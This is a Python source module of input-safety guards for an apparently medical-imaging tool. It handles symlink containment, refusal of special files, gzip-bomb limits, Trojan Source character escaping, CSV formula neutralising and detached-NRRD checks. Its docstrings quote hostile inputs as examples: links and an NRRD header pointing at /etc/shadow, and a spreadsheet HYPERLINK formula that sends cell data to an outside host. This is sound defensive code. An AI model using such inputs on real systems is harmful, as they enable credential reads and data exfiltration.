"""Small guards for files we did not write: regular files only, links kept inside their folder,
bounded gzip streams, one-line messages, and native libraries' stderr kept off the user's terminal.

Link policy, per process (``set_link_policy``; docs/reliability.md, "Links"):

* ``"inside"`` (the default, and what a server keeps): a symbolic link is followed only when its
  target lies in the folder that holds the link; a link that leaves it (``scan.nii.gz ->
  /etc/shadow``) is refused, never opened. A server reads on behalf of others with its own rights.
* ``"follow"`` (set by the ``medseg`` commands that read the user's own files): a link is followed
  wherever it points, as the user could name its target themselves; this is what datalad and
  git-annex datasets are made of (``T1w.nii.gz -> ../../.git/annex/objects/...``).

Either way the *target* must be a regular file (or a folder where one is expected): FIFOs, sockets
and devices (``-> /dev/zero``) are refused before anything opens them (opening a FIFO blocks
forever), and a broken link is refused, naming git-annex when that is where it pointed.
"""

from __future__ import annotations

import contextlib
import html
import os
import re
import stat
import sys
import tempfile
import threading
import zlib
from pathlib import Path
from typing import Iterator

CHUNK = 1024**2

# C0/C1 controls, DEL, and the Unicode line/paragraph separators: anything a terminal or a log
# would show as a line break or an escape sequence.
_CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029]")
# A lone UTF-16 surrogate (half an emoji from JSON's "\ud83d", or a byte os.fsdecode could not decode): Python
# holds it, every UTF-8 encoder refuses it (the page's state, a DICOM-SEG's labels).
LONE_SURROGATE = re.compile("[\ud800-\udfff]")
# The explicit text-direction embeddings, overrides and isolates (U+202A-U+202E, U+2066-U+2069): invisible, they
# reorder the text shown after them ("Trojan Source"); right-to-left letters need none of them to show right.
DIRECTION_CONTROL = re.compile("[\u202a-\u202e\u2066-\u2069]")


def visible_direction_controls(text: str) -> str:
    """``text`` with each text-direction control written out (``\\u202e``): what a file says is shown as it is, in
    its order. Why: a DICOM description or a file name holding U+202E reversed the rest of the line that showed it
    (the study facts, the status line: ``...txt.exe`` shown for ``...exe.txt``); label names refuse them outright."""
    return DIRECTION_CONTROL.sub(lambda m: m.group().encode("unicode_escape").decode("ascii"), text)


def one_line(text: str) -> str:
    """``text`` with every control character escaped (``\\n``, ``\\x1b``...), so it prints as one line."""
    return _CONTROL.sub(lambda m: m.group().encode("unicode_escape").decode("ascii"), str(text))


_MARKDOWN = re.compile(r"([\\`*_{}\[\]()#+!|~>-])")


def escape_markdown(s: str) -> str:
    """Literal text inside Markdown: HTML-escaped and Markdown punctuation backslash-escaped. Why: a name a file
    carries (a DICOM field, a manifest's cell) drew links, remote images or HTML where Markdown is rendered."""
    return _MARKDOWN.sub(r"\\\1", html.escape(visible_direction_controls(str(s)), quote=False))


# What a spreadsheet (Excel, LibreOffice) takes for the start of a formula in a CSV cell (OWASP's CSV-injection list)
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_text(s: str) -> str:
    """A text cell of a CSV written for people, as a spreadsheet shows it as text: one starting with = + - @, a tab
    or a carriage return gets a leading single quote (OWASP's rule), unless it is a plain number (``-5``). Why: a
    manifest's case id or structure such as ``=HYPERLINK("http://host/?"&A1, "open")`` ran as a formula when
    per_case.csv was opened (session 23)."""
    s = str(s)
    return "'" + s if s.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(s) else s


class UntrustedFileError(ValueError):
    """A path that is not a regular file we may open; the readers turn it into a StudyError."""


LINK_POLICIES = ("inside", "follow")
_link_policy = "inside"


def set_link_policy(policy: str) -> None:
    """``"inside"`` (default: links only within their folder) or ``"follow"`` (the CLI: the user's own files)."""
    global _link_policy
    if policy not in LINK_POLICIES:
        raise ValueError(f"link policy {policy!r}; expected one of {', '.join(LINK_POLICIES)}")
    _link_policy = policy


def link_policy() -> str:
    return _link_policy


def check_regular(path: Path, *, folder: Path | None = None, allow_dir: bool = False) -> os.stat_result:
    """Refuse anything but a regular file (or a folder when ``allow_dir``), and, under the
    ``"inside"`` policy, links leaving ``folder`` (default: the folder holding ``path``).

    Returns the target's stat (never opens it).
    """
    try:
        link = os.lstat(path)
    except OSError as e:
        raise UntrustedFileError(f"{path}: no such file or folder") from e
    if stat.S_ISLNK(link.st_mode) and _link_policy == "inside":
        base = Path(os.path.realpath(folder if folder is not None else Path(path).absolute().parent))
        target = Path(os.path.realpath(path))
        if base != target and base not in target.parents:
            raise UntrustedFileError(f"{path}: a link to a file outside its folder; name the real path or copy the file in")
    try:
        st = os.stat(path)
    except OSError as e:
        annex = "/.git/annex/objects/" in os.path.realpath(path)
        raise UntrustedFileError(f"{path}: a broken link" + (
            " (a git-annex file whose content is not here: `datalad get` or `git annex get` it)" if annex else "")) from e
    if stat.S_ISREG(st.st_mode) or (allow_dir and stat.S_ISDIR(st.st_mode)):
        return st
    kind = "a folder" if stat.S_ISDIR(st.st_mode) else "a pipe" if stat.S_ISFIFO(st.st_mode) else (
        "a device" if stat.S_ISCHR(st.st_mode) or stat.S_ISBLK(st.st_mode) else "a socket or special file")
    raise UntrustedFileError(f"{path}: {kind}, not a regular file")


def gzip_length(path: Path, cap: int) -> int:
    """Bytes the gzip file ``path`` decompresses to, counted in 1 MiB steps; stops once past ``cap``.

    Memory stays at one chunk whatever the stream claims (a gzip bomb stops at ``cap`` + 1 MiB).
    Concatenated gzip members count, as zlib's ``gzread`` (ITK) and Python's gzip read them.
    Raises ``zlib.error``/``EOFError`` for a damaged or cut stream.
    """
    total = 0
    with open(path, "rb") as f:
        d, started, data = zlib.decompressobj(wbits=31), False, b""
        while total <= cap:
            if not data:
                data = f.read(CHUNK)
                if not data:
                    if started:
                        total += len(d.flush())  # at most a few bytes' worth of pending output
                        if not d.eof:
                            raise EOFError("the gzip stream ends before its end marker (truncated)")
                    return total
            if not started and total and not data.strip(b"\0"):
                data = b""  # zero padding after the last member, which gzip tools skip
                continue
            started = True
            total += len(d.decompress(data, CHUNK))
            data = d.unconsumed_tail
            if d.eof:  # next member, if any
                data = d.unused_data
                d, started = zlib.decompressobj(wbits=31), False
    return total


_stderr_lock = threading.Lock()


@contextlib.contextmanager
def native_stderr_captured() -> Iterator[list[str]]:
    """Send what C/C++ code writes to file descriptor 2 (ITK/GDCM/libjpeg blocks) to a buffer.

    Yields a list that holds the captured lines afterwards. Only in the main thread: moving fd 2
    is process-wide, and a server's handler threads must not hide the other threads' logs.
    """
    lines: list[str] = []
    if threading.current_thread() is not threading.main_thread():
        yield lines
        return
    with _stderr_lock, tempfile.TemporaryFile() as sink:
        sys.stderr.flush()
        saved = os.dup(2)
        os.dup2(sink.fileno(), 2)
        try:
            yield lines
        finally:
            sys.stderr.flush()
            os.dup2(saved, 2)
            os.close(saved)
            sink.seek(0)
            lines.extend(sink.read(64 * 1024).decode("utf-8", "replace").splitlines())


NRRD_HEADER_BYTES = 64 * 1024
_NRRD_DETACHED = re.compile(rb"^\s*data\s?file\s*:", re.IGNORECASE | re.MULTILINE)


def check_nrrd_attached(path: Path) -> None:
    """An NRRD file must hold its own voxels: refuse a detached header (``data file: /etc/shadow``, also as
    ``datafile:``, a list or a %d pattern), with which ITK reads any file the server may read as the voxels
    (a label server returned it as the image or the saved label). Checked on the bytes, before ITK sees them."""
    with open(path, "rb") as f:
        head = f.read(NRRD_HEADER_BYTES)
    if not head.startswith(b"NRRD000"):
        raise UntrustedFileError(f"{path.name}: not an NRRD file (no NRRD000x magic)")
    end = head.find(b"\n\n")
    if end < 0:
        end = head.find(b"\r\n\r\n")
    if end < 0:
        raise UntrustedFileError(f"{path.name}: an NRRD header without its end (a blank line) in the first "
                                 f"{NRRD_HEADER_BYTES // 1024} KiB")
    if _NRRD_DETACHED.search(head[:end]):
        raise UntrustedFileError(f"{path.name}: a detached NRRD header ('data file:' names other files); send one .nrrd "
                                 "that holds its voxels")
